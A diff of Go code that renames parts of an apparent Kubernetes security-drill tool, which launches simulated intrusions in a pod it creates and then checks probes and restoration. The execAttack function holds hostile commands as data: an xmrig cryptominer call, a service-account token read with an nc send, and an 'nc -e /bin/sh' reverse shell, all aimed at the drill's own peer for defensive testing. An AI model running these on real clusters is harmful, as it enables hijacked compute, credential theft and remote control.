@@ -28,43 +28,43 @@ import (
 // drillLabel marks what a drill made; its value is the drill's random suffix.
 const drillLabel = "stanch.dev/drill"
 
-// probedStage is a stage that a kubelet and a controller look after.
-type probedStage interface {
-	// Hold is how long a lock must be watched to see whether probes pass; Probes says whether they did.
-	Hold() time.Duration
-	Probes(ctx context.Context) (detail string, err error)
-	// Restored says whether the workload is as it was, after everything was undone.
-	Restored(ctx context.Context) (detail string, err error)
+// probedEnvironment is a stage that a kubelet and a controller look after.
+type probedEnvironment interface {
+	// ObservationTime is how long a lock must be watched to see whether probes pass; Probes says whether they did.
+	ObservationTime() time.Duration
+	CheckProbes(ctx context.Context) (detail string, err error)
+	// CheckRestored says whether the workload is as it was, after everything was undone.
+	CheckRestored(ctx context.Context) (detail string, err error)
 }
 
-var _ probedStage = (*clusterStage)(nil)
+var _ probedEnvironment = (*clusterEnvironment)(nil)
 
-// clusterStage is a Deployment of two pods made for the drill, one of which is attacked, and a peer that both talk to.
+// clusterEnvironment is a Deployment of two pods made for the drill, one of which is attacked, and a peer that both talk to.
 // The attack is executed into the pod, as an intruder's would be, so that a replacement of the pod is innocent.
-type clusterStage struct {
+type clusterEnvironment struct {
 	client    kubernetes.Interface
 	config    *rest.Config
 	suffix    string
 	image     string
-	token     bool // the pods get their service account's token
-	madeSpace bool // the namespace is the drill's own
+	mountToken     bool // the pods get their service account's token
+	createdNamespace bool // the namespace is the drill's own
 
 	victim  *corev1.Pod
-	sibling atomic.Pointer[string] // the other pod's name
+	siblingPod atomic.Pointer[string] // the other pod's name
 	peer    string                 // the peer's address
-	heard   atomic.Uint64
-	spoke   atomic.Uint64
+	victimLines   atomic.Uint64
+	siblingLines   atomic.Uint64
 
-	stop   context.CancelFunc // of the streams
-	failed chan error         // why the attack could not be executed
+	stopStreams   context.CancelFunc // of the streams
+	attackErrors chan error         // why the attack could not be executed
 }
 
-func (s *clusterStage) Target() string       { return string(s.victim.UID) }
-func (s *clusterStage) Heard() uint64        { return s.heard.Load() }
-func (s *clusterStage) SiblingHeard() uint64 { return s.spoke.Load() }
+func (s *clusterEnvironment) TargetID() string       { return string(s.victim.UID) }
+func (s *clusterEnvironment) VictimLineCount() uint64        { return s.victimLines.Load() }
+func (s *clusterEnvironment) SiblingLineCount() uint64 { return s.siblingLines.Load() }
 
-// newClusterStage makes the pods, waits until both talk to the peer, and starts the attack in one of them.
-func newClusterStage(ctx context.Context, o drillOptions, kind string, register registerTargets) (_ stage, err error) {
+// newClusterEnvironment makes the pods, waits until both talk to the peer, and starts the attack in one of them.
+func newClusterEnvironment(ctx context.Context, o drillOptions, kind string, register registerTargetsFunc) (_ drillEnvironment, err error) {
 	cfg, err := clusterConfig(o.kubeconfig)
 	if err != nil {
 		return nil, err
@@ -74,9 +74,9 @@ func newClusterStage(ctx context.Context, o drillOptions, kind string, register 
 		return nil, err
 	}
 	klog.SetLogger(logr.Discard()) // client-go tells of streams that the drill itself ends
-	s := &clusterStage{client: client, config: cfg, suffix: randomHex(3), image: o.image, token: kind == "credentials", failed: make(chan error, 1)}
+	s := &clusterEnvironment{client: client, config: cfg, suffix: randomHex(3), image: o.image, mountToken: kind == "credentials", attackErrors: make(chan error, 1)}
 	streams, stop := context.WithCancel(context.WithoutCancel(ctx))
-	s.stop = stop
+	s.stopStreams = stop
 	defer func() {
 		if err != nil {
 			s.Close()
@@ -86,31 +86,31 @@ func newClusterStage(ctx context.Context, o drillOptions, kind string, register 
 		what string
 		do   func(context.Context) error
 	}{
-		{"make the namespace " + config.DrillNamespace, s.makeNamespace},
+		{"make the namespace " + config.DrillNamespace, s.ensureNamespace},
 		{"start the drill's peer", s.startPeer},
-		{"listen to the drill's peer", func(context.Context) error { return s.listen(streams) }},
-		{"start the drill's pods", s.startPods},
-		{"wait for the pods' traffic", s.waitTraffic},
+		{"listen to the drill's peer", func(context.Context) error { return s.followPeerLog(streams) }},
+		{"start the drill's pods", s.startDeployment},
+		{"wait for the pods' traffic", s.waitForTraffic},
 		{"register the drill's pod", func(ctx context.Context) error {
-			return register(ctx, gateway.DrillTargets{Pods: []string{s.victim.Name}, Deployments: []string{s.name("victim")}})
+			return register(ctx, gateway.DrillTargets{Pods: []string{s.victim.Name}, Deployments: []string{s.resourceName("victim")}})
 		}},
 	} {
 		if err := step.do(ctx); err != nil {
 			return nil, fmt.Errorf("%s: %w", step.what, err)
 		}
 	}
-	go func() { s.failed <- s.attack(streams, kind) }()
+	go func() { s.attackErrors <- s.execAttack(streams, kind) }()
 	return s, nil
 }
 
-// makeNamespace makes the namespace of drills, or uses the one that is there. One that an earlier drill removes is
+// ensureNamespace makes the namespace of drills, or uses the one that is there. One that an earlier drill removes is
 // waited for.
-func (s *clusterStage) makeNamespace(ctx context.Context) error {
+func (s *clusterEnvironment) ensureNamespace(ctx context.Context) error {
 	space := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: config.DrillNamespace, Labels: map[string]string{kube.ManagedByLabel: kube.ManagedBy}}}
-	return poll(ctx, time.Minute, func() error {
+	return retryUntil(ctx, time.Minute, func() error {
 		_, err := s.client.CoreV1().Namespaces().Create(ctx, space, metav1.CreateOptions{})
 		if err == nil {
-			s.madeSpace = true
+			s.createdNamespace = true
 			return nil
 		}
 		if !apierrors.IsAlreadyExists(err) {
@@ -124,16 +124,16 @@ func (s *clusterStage) makeNamespace(ctx context.Context) error {
 			return errors.New("it is still being removed")
 		}
 		// One that a drill made and could not remove is taken over.
-		s.madeSpace = have.Labels[kube.ManagedByLabel] == kube.ManagedBy
+		s.createdNamespace = have.Labels[kube.ManagedByLabel] == kube.ManagedBy
 		return nil
 	})
 }
 
-// listen counts the lines that the peer writes: each names the pod that sent it.
-func (s *clusterStage) listen(ctx context.Context) error {
-	request := s.client.CoreV1().Pods(config.DrillNamespace).GetLogs(s.name("peer"), &corev1.PodLogOptions{Follow: true})
+// followPeerLog counts the lines that the peer writes: each names the pod that sent it.
+func (s *clusterEnvironment) followPeerLog(ctx context.Context) error {
+	request := s.client.CoreV1().Pods(config.DrillNamespace).GetLogs(s.resourceName("peer"), &corev1.PodLogOptions{Follow: true})
 	var lines io.ReadCloser
-	err := poll(ctx, 10*time.Second, func() (err error) { lines, err = request.Stream(ctx); return err })
+	err := retryUntil(ctx, 10*time.Second, func() (err error) { lines, err = request.Stream(ctx); return err })
 	if err != nil {
 		return err
 	}
@@ -141,28 +141,28 @@ func (s *clusterStage) listen(ctx context.Context) error {
 		defer func() { _ = lines.Close() }()
 		for scan := bufio.NewScanner(lines); scan.Scan(); {
 			_, from, _ := strings.Cut(scan.Text(), " ")
-			if sibling := s.sibling.Load(); sibling != nil && from == *sibling {
-				s.spoke.Add(1)
+			if sibling := s.siblingPod.Load(); sibling != nil && from == *sibling {
+				s.siblingLines.Add(1)
 			} else {
-				s.heard.Add(1)
+				s.victimLines.Add(1)
 			}
 		}
 	}()
 	return nil
 }
 
-// waitTraffic waits until both pods are heard; who is who is settled then.
-func (s *clusterStage) waitTraffic(ctx context.Context) error {
-	return poll(ctx, 20*time.Second, func() error {
-		if s.Heard() == 0 || s.SiblingHeard() == 0 {
-			return fmt.Errorf("the peer %s heard %d lines of the one and %d of the other", s.peer, s.Heard(), s.SiblingHeard())
+// waitForTraffic waits until both pods are heard; who is who is settled then.
+func (s *clusterEnvironment) waitForTraffic(ctx context.Context) error {
+	return retryUntil(ctx, 20*time.Second, func() error {
+		if s.VictimLineCount() == 0 || s.SiblingLineCount() == 0 {
+			return fmt.Errorf("the peer %s heard %d lines of the one and %d of the other", s.peer, s.VictimLineCount(), s.SiblingLineCount())
 		}
 		return nil
 	})
 }
 
-// attack executes the attack in the victim; it ends with the stage.
-func (s *clusterStage) attack(ctx context.Context, kind string) error {
+// execAttack executes the attack in the victim; it ends with the stage.
+func (s *clusterEnvironment) execAttack(ctx context.Context, kind string) error {
 	send := func(word, port string) string {
 		return fmt.Sprintf("while echo %s $POD; do sleep 0.1; done | nc %s %s", word, s.peer, port)
 	}
@@ -170,17 +170,17 @@ func (s *clusterStage) attack(ctx context.Context, kind string) error {
 	streams := remotecommand.StreamOptions{Stdout: io.Discard, Stderr: io.Discard}
 	switch kind {
 	case "cryptominer":
-		exec.Command = []string{"sh", "-c", send("share", poolPort), "xmrig", "--url", "stratum+tcp://" + s.peer + ":" + poolPort, "--donate-level", "1"}
+		exec.Command = []string{"sh", "-c", send("share", minerPoolPort), "xmrig", "--url", "stratum+tcp://" + s.peer + ":" + minerPoolPort, "--donate-level", "1"}
 	case "shell":
 		exec.Command, exec.TTY, exec.Stdin, exec.Stderr = []string{"sh"}, true, true, false
 		typed, typist := io.Pipe()
 		defer func() { _ = typist.Close() }()
-		go func() { _, _ = io.WriteString(typist, send("typed", beatPort)+"\n") }()
+		go func() { _, _ = io.WriteString(typist, send("typed", heartbeatPort)+"\n") }()
 		streams.Stdin, streams.Stderr, streams.Tty = typed, nil, true
 	case "credentials":
-		exec.Command = []string{"sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null; " + send("stolen", beatPort)}
+		exec.Command = []string{"sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null; " + send("stolen", heartbeatPort)}
 	case "reverse-shell":
-		exec.Command = []string{"nc", s.peer, shellPort, "-e", "/bin/sh"}
+		exec.Command = []string{"nc", s.peer, reverseShellPort, "-e", "/bin/sh"}
 	}
 	request := s.client.CoreV1().RESTClient().Post().Resource("pods").Namespace(s.victim.Namespace).Name(s.victim.Name).
 		SubResource("exec").VersionedParams(&exec, scheme.ParameterCodec)
@@ -194,14 +194,14 @@ func (s *clusterStage) attack(ctx context.Context, kind string) error {
 	return nil
 }
 
-// probePatience is how long a pod whose probes fail stays ready, and a bit.
-const probePatience = 5 * time.Second
+// probeFailureDelay is how long a pod whose probes fail stays ready, and a bit.
+const probeFailureDelay = 5 * time.Second
 
-// Hold is how long the lock must be watched to see whether the kubelet's probes go on passing.
-func (s *clusterStage) Hold() time.Duration { return probePatience }
+// ObservationTime is how long the lock must be watched to see whether the kubelet's probes go on passing.
+func (s *clusterEnvironment) ObservationTime() time.Duration { return probeFailureDelay }
 
-// Probes tells whether the kubelet still finds the attacked pod well.
-func (s *clusterStage) Probes(ctx context.Context) (string, error) {
+// CheckProbes tells whether the kubelet still finds the attacked pod well.
+func (s *clusterEnvironment) CheckProbes(ctx context.Context) (string, error) {
 	pod, err := s.client.CoreV1().Pods(config.DrillNamespace).Get(ctx, s.victim.Name, metav1.GetOptions{})
 	if err != nil {
 		return "", fmt.Errorf("read the attacked pod: %w", err)
@@ -210,54 +210,54 @@ func (s *clusterStage) Probes(ctx context.Context) (string, error) {
 	for _, c := range pod.Status.ContainerStatuses {
 		restarts += c.RestartCount
 	}
-	if restarts > 0 || !podReady(pod) {
-		return "", fmt.Errorf("the attacked pod was restarted %d times, ready: %t", restarts, podReady(pod))
+	if restarts > 0 || !isPodReady(pod) {
+		return "", fmt.Errorf("the attacked pod was restarted %d times, ready: %t", restarts, isPodReady(pod))
 	}
 	return "the locked pod is ready and was not restarted: the kubelet's probes pass", nil
 }
 
-// Restored tells when the workload has all its pods again.
-func (s *clusterStage) Restored(ctx context.Context) (string, error) {
-	d, err := s.client.AppsV1().Deployments(config.DrillNamespace).Get(ctx, s.name("victim"), metav1.GetOptions{})
+// CheckRestored tells when the workload has all its pods again.
+func (s *clusterEnvironment) CheckRestored(ctx context.Context) (string, error) {
+	d, err := s.client.AppsV1().Deployments(config.DrillNamespace).Get(ctx, s.resourceName("victim"), metav1.GetOptions{})
 	if err != nil {
 		return "", fmt.Errorf("read the drill's Deployment: %w", err)
 	}
-	if d.Spec.Replicas == nil || *d.Spec.Replicas != victims || d.Status.ReadyReplicas != victims {
-		return "", fmt.Errorf("%d of %d pods are ready", d.Status.ReadyReplicas, victims)
+	if d.Spec.Replicas == nil || *d.Spec.Replicas != deploymentReplicas || d.Status.ReadyReplicas != deploymentReplicas {
+		return "", fmt.Errorf("%d of %d pods are ready", d.Status.ReadyReplicas, deploymentReplicas)
 	}
-	return fmt.Sprintf("%d of %d pods are ready", d.Status.ReadyReplicas, victims), nil
+	return fmt.Sprintf("%d of %d pods are ready", d.Status.ReadyReplicas, deploymentReplicas), nil
 }
 
 // Close removes what the drill made, also after it was interrupted.
-func (s *clusterStage) Close() {
-	s.stop()
+func (s *clusterEnvironment) Close() {
+	s.stopStreams()
 	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
 	defer cancel()
 	now, background := int64(0), metav1.DeletePropagationBackground
 	o := metav1.DeleteOptions{GracePeriodSeconds: &now, PropagationPolicy: &background}
 	failed := errors.Join(
-		gone(s.client.AppsV1().Deployments(config.DrillNamespace).Delete(ctx, s.name("victim"), o)),
-		gone(s.client.CoreV1().Pods(config.DrillNamespace).DeleteCollection(ctx, o, metav1.ListOptions{LabelSelector: drillLabel + "=" + s.suffix})))
-	if s.madeSpace {
+		ignoreNotFound(s.client.AppsV1().Deployments(config.DrillNamespace).Delete(ctx, s.resourceName("victim"), o)),
+		ignoreNotFound(s.client.CoreV1().Pods(config.DrillNamespace).DeleteCollection(ctx, o, metav1.ListOptions{LabelSelector: drillLabel + "=" + s.suffix})))
+	if s.createdNamespace {
 		// Another drill may run in it.
 		others, err := s.client.CoreV1().Pods(config.DrillNamespace).List(ctx, metav1.ListOptions{LabelSelector: drillLabel + "!=" + s.suffix})
 		if failed = errors.Join(failed, err); err == nil && len(others.Items) == 0 {
-			failed = errors.Join(failed, gone(s.client.CoreV1().Namespaces().Delete(ctx, config.DrillNamespace, metav1.DeleteOptions{})))
+			failed = errors.Join(failed, ignoreNotFound(s.client.CoreV1().Namespaces().Delete(ctx, config.DrillNamespace, metav1.DeleteOptions{})))
 		}
 	}
 	if failed != nil {
-		progress("the drill could not remove all that it made; `kubectl delete namespace %s` does: %v", config.DrillNamespace, failed)
+		logProgress("the drill could not remove all that it made; `kubectl delete namespace %s` does: %v", config.DrillNamespace, failed)
 	}
 }
 
-func gone(err error) error {
+func ignoreNotFound(err error) error {
 	if apierrors.IsNotFound(err) {
 		return nil
 	}
 	return err
 }
 
-func podReady(pod *corev1.Pod) bool {
+func isPodReady(pod *corev1.Pod) bool {
 	for _, c := range pod.Status.Conditions {
 		if c.Type == corev1.PodReady {
 			return c.Status == corev1.ConditionTrue
@@ -266,8 +266,8 @@ func podReady(pod *corev1.Pod) bool {
 	return false
 }
 
-// poll tries until it works; after the limit the last error is the answer.
-func poll(ctx context.Context, limit time.Duration, try func() error) error {
+// retryUntil tries until it works; after the limit the last error is the answer.
+func retryUntil(ctx context.Context, limit time.Duration, try func() error) error {
 	ctx, cancel := context.WithTimeout(ctx, limit)
 	defer cancel()
 	for {
@@ -275,7 +275,7 @@ func poll(ctx context.Context, limit time.Duration, try func() error) error {
 		if err == nil {
 			return nil
 		}
-		if pause(ctx, 100*time.Millisecond) != nil {
+		if sleep(ctx, 100*time.Millisecond) != nil {
 			return err
 		}
 	}
